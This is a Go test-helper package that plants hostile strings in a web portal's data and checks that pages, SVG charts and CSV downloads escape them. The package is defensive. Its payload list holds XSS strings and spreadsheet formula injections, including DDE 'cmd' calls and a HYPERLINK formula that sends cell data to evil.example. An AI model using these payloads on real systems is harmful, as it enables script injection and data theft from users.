// Package sectest holds what the security tests of every area share: the
// hostile strings to plant in upstream data, and checks that a page, a
// chart or a CSV download carries them as harmless text.
//
// An area's test plants each of Payloads in the data its page shows (a
// simulator's record, a projects-file name, an upstream error), renders
// the page, and calls HTML, SVG or CSV on the answer:
//
//	for _, p := range sectest.Payloads {
//		// ...plant p.Raw as a metric name, sync, GET /metrics...
//		sectest.HTML(t, body, p)
//		sectest.CSV(t, csvBody, p)
//	}
package sectest

import (
	"encoding/csv"
	"html"
	"regexp"
	"strings"
	"testing"

	xhtml "golang.org/x/net/html"
)

// Payload is one hostile string.
type Payload struct {
	Name string
	Raw  string
}

// Payloads break out of text, attributes, URLs, SVG and spreadsheets if
// they are not escaped. Each is distinct (it carries its own marker) so a
// test can plant several at once and still tell them apart.
var Payloads = []Payload{
	{"script tag", `<script>alert("xss-1")</script>`},
	{"attribute breakout", `"><img src=x onerror=alert('xss-2')>`},
	{"single-quoted attribute breakout", `' autofocus onfocus='alert(3)' x='xss-3`},
	{"svg onload", `</text><svg onload=alert(4)>xss-4</svg>`},
	{"closing tags", `</title></style></textarea></script><b>xss-5</b>`},
	{"formula", `=HYPERLINK("http://evil.example/?"&A1,"xss-6")`},
	{"dde formula", `+cmd|' /C calc'!A0 xss-7`},
	{"at formula", `@SUM(1+1)*cmd|' /C calc'!A0 xss-8`},
	// A CSV writer that ends lines with CRLF writes this leading line
	// feed as CR LF, so a spreadsheet may see the formula right behind it.
	{"line feed formula", "\n=HYPERLINK(\"http://evil.example/\",\"xss-9\")"},
}

// Marker is a payload's unique word, e.g. "xss-2" (or the payload itself
// when it has none).
func (p Payload) Marker() string {
	if i := strings.Index(p.Raw, "xss-"); i >= 0 {
		return p.Raw[i : i+5]
	}
	return p.Raw
}

// dangerous reports whether the payload would change markup if it were
// copied into HTML unescaped.
func (p Payload) dangerous() bool { return strings.ContainsAny(p.Raw, `<>"'&`) }

// HTML checks that a page shows the payload as text: the raw string is
// nowhere in the markup, its escaped form is (so the test knows the
// planted value was rendered at all), and the markup has nothing that
// runs script (see Markup).
func HTML(t testing.TB, body string, p Payload) {
	t.Helper()
	if p.dangerous() && strings.Contains(body, p.Raw) {
		t.Errorf("%s: the page contains the payload unescaped: %q", p.Name, excerpt(body, p.Raw))
		return
	}
	// Text people type is trimmed before it is stored, so the planted
	// value may come back without its leading line feed.
	raw, trimmed := p.Raw, strings.TrimSpace(p.Raw)
	if !strings.Contains(body, html.EscapeString(raw)) && !strings.Contains(body, templEscape(raw)) &&
		!strings.Contains(body, html.EscapeString(trimmed)) && !strings.Contains(body, templEscape(trimmed)) {
		t.Errorf("%s: the page does not show the planted value %q at all (was it rendered?)", p.Name, p.Raw)
	}
	Markup(t, body)
}

// SVG checks a server-drawn chart: the payload is text (escaped), and
// the drawing has no script, event handler or foreign markup.
func SVG(t testing.TB, svg string, p Payload) {
	t.Helper()
	HTML(t, svg, p)
}

// Markup checks, with an HTML tokenizer, that a page or drawing has no
// element or attribute that runs script: no inline <script>, no on*
// attribute, no javascript: URL, no <iframe>, <object>, <embed> or
// <foreignObject>. The portal has none of its own (its CSP forbids
// them), so any found was injected.
func Markup(t testing.TB, body string) {
	t.Helper()
	z := xhtml.NewTokenizer(strings.NewReader(body))
	inScript := false
	for {
		tt := z.Next()
		switch tt {
		case xhtml.ErrorToken:
			return
		case xhtml.TextToken:
			if inScript && strings.TrimSpace(string(z.Text())) != "" {
				t.Errorf("inline script: %q", z.Text())
			}
		case xhtml.EndTagToken:
			inScript = false
		case xhtml.StartTagToken, xhtml.SelfClosingTagToken:
			tok := z.Token()
			switch strings.ToLower(tok.Data) {
			case "script":
				inScript = tt == xhtml.StartTagToken
				for _, a := range tok.Attr {
					if a.Key == "src" && !strings.HasPrefix(a.Val, "/static/") {
						t.Errorf("script from %q", a.Val)
					}
				}
			case "iframe", "object", "embed", "foreignobject", "base":
				t.Errorf("element <%s> in the markup", tok.Data)
			}
			for _, a := range tok.Attr {
				key, val := strings.ToLower(a.Key), strings.ToLower(strings.TrimSpace(a.Val))
				if strings.HasPrefix(key, "on") {
					t.Errorf("event handler %s=%q on <%s>", a.Key, a.Val, tok.Data)
				}
				if (key == "href" || key == "src" || key == "action" || key == "formaction" || strings.HasSuffix(key, ":href")) &&
					(strings.HasPrefix(val, "javascript:") || strings.HasPrefix(val, "data:text/html")) {
					t.Errorf("script URL %s=%q on <%s>", a.Key, a.Val, tok.Data)
				}
			}
		}
	}
}

// CSV checks a download: it parses as CSV, the payload is one cell
// (never spilling into others), and a cell that a spreadsheet would run
// as a formula starts with an apostrophe.
func CSV(t testing.TB, body string, p Payload) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Errorf("%s: the download is not valid CSV: %v", p.Name, err)
		return
	}
	found := false
	for _, row := range rows {
		for _, cell := range row {
			if FormulaCell(cell) {
				t.Errorf("%s: cell %q would run as a formula", p.Name, cell)
			}
			if t := strings.TrimSpace(p.Raw); cell == p.Raw || cell == "'"+p.Raw || cell == t || cell == "'"+t {
				found = true
			}
		}
	}
	if !found {
		t.Errorf("%s: no cell holds the planted value %q whole", p.Name, p.Raw)
	}
}

// FormulaCell reports whether a spreadsheet would read the cell as a
// formula: it starts with =, +, -, @, a tab, a carriage return or a line
// feed and is not a plain number.
func FormulaCell(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) && !number.MatchString(cell)
}

var number = regexp.MustCompile(`^[-+]?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?$`)

// templEscape is templ's escaping (html.EscapeString's set, with &#34;
// and &#39; for quotes) in case the two ever differ.
func templEscape(s string) string {
	return strings.NewReplacer(`&`, "&amp;", `<`, "&lt;", `>`, "&gt;", `"`, "&#34;", `'`, "&#39;").Replace(s)
}

func excerpt(s, at string) string {
	i := strings.Index(s, at)
	if i < 0 {
		return ""
	}
	from, to := max(i-60, 0), min(i+len(at)+60, len(s))
	return s[from:to]
}
